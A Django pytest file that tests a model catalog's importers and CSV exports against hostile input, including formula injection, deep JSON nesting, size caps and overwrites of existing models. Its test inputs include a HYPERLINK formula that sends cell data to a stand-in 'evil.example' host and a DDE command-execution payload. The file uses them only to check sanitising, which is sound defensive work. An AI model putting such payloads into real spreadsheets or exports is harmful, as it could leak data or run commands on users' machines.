"""Staff importers and admin exports under hostile input:
size caps before reading, deep nesting, configs that do not state a model, overwrites of
another model, and spreadsheet formulas in CSV exports."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest
from django.contrib.auth.models import User
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import translation
from django.utils.datastructures import MultiValueDict

from catalog.exports import safe_cell, safe_row, unsafe_cell
from catalog.forms import GGUF_HEADER_BYTES, BoundedJSONField, ConfigImportForm, GGUFUploadForm
from catalog.models import Accelerator, LLMModel
from catalog.resources import AcceleratorResource
from catalog.services import CatalogError
from catalog.services.configs import (
    MAX_CONFIG_BYTES,
    config_parse_text,
    config_states_size,
    model_config_validate,
    model_import_config,
)
from tests.cast import CastTestCase

ROOT = Path(__file__).resolve().parents[2]
LLAMA_8B = json.loads(
    (ROOT / "estimator/data/validation/configs/meta-llama__Llama-3.1-8B-Instruct.json").read_text()
)
TINY = {
    "model_type": "llama",
    "hidden_size": 256,
    "num_hidden_layers": 2,
    "num_attention_heads": 4,
    "num_key_value_heads": 2,
    "intermediate_size": 512,
    "vocab_size": 1000,
}

# --- the export helper ---------------------------------------------------------------------


def test_formula_cells_get_a_leading_quote_and_numbers_stay_numbers() -> None:
    assert safe_cell('=HYPERLINK("https://evil.example/?"&A1,"x")') == (
        '\'=HYPERLINK("https://evil.example/?"&A1,"x")'
    )
    for text in ("+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\tx", "\r=1", "-", "-²"):
        assert safe_cell(text) == "'" + text, text
    # Whole number literals are data: a negative price must stay a number.
    for number in ("-3", "+1.5", "-2e-05", "-.5", "-0"):
        assert safe_cell(number) == number, number
    for value in (None, -3, 2.5, "plain", "a=b", ""):
        assert safe_cell(value) == value
    assert safe_row(["=1", 2, "x"]) == ["'=1", 2, "x"]


def test_unsafe_cell_undoes_safe_cell_only() -> None:
    for text in ("=1+1", "@x", "-2+3", "plain", "-3", "'quoted by the author"):
        assert unsafe_cell(safe_cell(text)) == text
    assert unsafe_cell("'-3") == "'-3"  # safe_cell never writes this: it is the author's


@pytest.mark.django_db
def test_the_accelerator_export_neutralises_formulas_and_keeps_numbers() -> None:
    Accelerator.objects.create(
        vendor='=HYPERLINK("https://evil.example")',
        name="@Card",
        slug="evil-card",
        memory_gb=24,
        bandwidth_gbps=100,
    )
    dataset = AcceleratorResource().export()
    row = dict(zip(dataset.headers, dataset[0], strict=True))
    assert row["vendor"] == '\'=HYPERLINK("https://evil.example")'
    assert row["name"] == "'@Card"
    assert row["memory_gb"] in ("24", "24.0", 24)  # numbers are not quoted
    rows = list(csv.reader(io.StringIO(dataset.export("csv"))))
    assert rows[1][rows[0].index("vendor")].startswith("'=")


# --- config.json ---------------------------------------------------------------------------


def test_deep_nesting_is_refused_with_a_message_not_a_recursion_error() -> None:
    text = '{"a": ' + "[" * 5000 + "]" * 5000 + "}"
    with pytest.raises(CatalogError, match="nests at most 16 levels"):
        config_parse_text(text=text)


def test_nul_oversize_and_huge_numbers() -> None:
    with pytest.raises(CatalogError, match="NUL"):
        config_parse_text(text='{"a": "\x00"}')
    with pytest.raises(CatalogError, match="at most 1 MB"):
        config_parse_text(text=b" " * (MAX_CONFIG_BYTES + 1))
    # 1e999999 is past float range: kept as text like NaN (JSON columns refuse inf).
    assert config_parse_text(text='{"x": 1e999999}') == {"x": "1e999999"}


@pytest.mark.django_db
def test_a_config_that_names_no_size_is_refused() -> None:
    spec = model_config_validate(config={"model_type": "llama"})
    # The estimator fills in LlamaConfig's defaults: 32 layers of 4,096, a 6.7B model.
    assert (spec.n_layers, spec.hidden_size) == (32, 4096)
    assert not config_states_size({"model_type": "llama"}, spec)
    with pytest.raises(CatalogError, match="must state the model's size"):
        model_import_config(config={"model_type": "llama"}, hf_repo="me/x")


def test_every_seeded_config_states_its_size() -> None:
    configs = sorted((ROOT / "catalog/data/configs").glob("*.json"))
    assert len(configs) > 50
    for path in configs:
        config = config_parse_text(text=path.read_bytes())
        assert config_states_size(config, model_config_validate(config=config)), path.name


@pytest.mark.django_db
def test_an_import_never_silently_turns_one_model_into_another() -> None:
    model_import_config(config=LLAMA_8B, hf_repo="meta-llama/Llama-3.1-8B-Instruct")
    slug = "llama-3-1-8b-instruct"
    # The probe's case: a bare model_type against an existing slug.
    with pytest.raises(CatalogError, match="must state the model's size"):
        model_import_config(config={"model_type": "llama"}, slug=slug)
    # Another repo's config under this slug.
    with pytest.raises(CatalogError, match="but this config is for someone/else"):
        model_import_config(config=TINY, slug=slug, hf_repo="someone/else")
    # Another architecture: 2 layers of 256 against Llama 3.1 8B's 32 of 4,096.
    with pytest.raises(CatalogError, match="32 layers of width 4096"):
        model_import_config(config=TINY, slug=slug)
    model = LLMModel.objects.get()
    assert model.config == LLAMA_8B
    # With "replace" ticked the staff member means it.
    model_import_config(config=TINY, slug=slug, replace=True)
    assert LLMModel.objects.get().config == TINY


class _Unreadable(SimpleUploadedFile):
    def read(self, *args: Any) -> bytes:
        raise AssertionError("read before the size check")


def test_an_oversize_config_upload_is_refused_before_it_is_read() -> None:
    upload = _Unreadable("config.json", b" " * (MAX_CONFIG_BYTES + 1))
    form = ConfigImportForm({}, MultiValueDict({"file": [upload]}))
    assert not form.is_valid()
    assert form.errors["file"] == ["A config.json is at most 1 MB."]


def test_a_header_only_gguf_upload_has_a_cap_and_needs_the_file_size() -> None:
    big = SimpleUploadedFile("x.gguf", b"\0" * (GGUF_HEADER_BYTES + 1))
    form = GGUFUploadForm(
        {"header_only": "on", "file_size": str(2**40)}, MultiValueDict({"file": [big]})
    )
    assert not form.is_valid()
    assert form.errors["__all__"] == ["A header part is at most 16 MB."]
    small = SimpleUploadedFile("x.gguf", b"GGUF" + b"\0" * 60)
    form = GGUFUploadForm({"header_only": "on"}, MultiValueDict({"file": [small]}))
    assert not form.is_valid()
    assert "size of the whole file" in form.errors["__all__"][0]
    form = GGUFUploadForm(
        {"header_only": "on", "file_size": str(2**63)}, MultiValueDict({"file": [small]})
    )
    assert not form.is_valid() and "file_size" in form.errors


def test_the_admin_json_fields_refuse_deep_nesting() -> None:
    field = BoundedJSONField(required=False)
    from django.core.exceptions import ValidationError

    with pytest.raises(ValidationError, match="deeper than 64"):
        field.clean("[" * 5000 + "]" * 5000)
    assert field.clean('{"a": [1, 2]}') == {"a": [1, 2]}


class ImporterPages(CastTestCase):
    def setUp(self) -> None:
        translation.activate("en")
        self.addCleanup(translation.deactivate)
        staff = User.objects.create_user("s", "s@example.invalid", "pw-s-12345", is_staff=True)
        self.client.force_login(staff)

    def test_hostile_configs_get_400_with_the_reason(self) -> None:
        url = reverse("catalog:config-import")
        cases = {
            '{"a": ' + "[" * 5000 + "]" * 5000 + "}": "nests at most 16 levels",
            '{"model_type": "llama"}': "must state the model",
            "[1, 2]": "must be a JSON object",
        }
        for text, reason in cases.items():
            response = self.client.post(url, {"text": text, "hf_repo": "me/x"})
            assert response.status_code == 400, text[:40]
            assert reason in response.content.decode(), text[:40]
        assert LLMModel.objects.count() == 0

    def test_a_declared_body_over_the_cap_is_refused_unread(self) -> None:
        url = reverse("catalog:gguf-upload")
        response = self.client.post(url, {"header_only": "on"}, CONTENT_LENGTH=str(2**40))
        # sizing_site.body_limits, before the view: the whole-file cap and its framing.
        assert response.status_code == 413
        assert "too large" in response.content.decode()
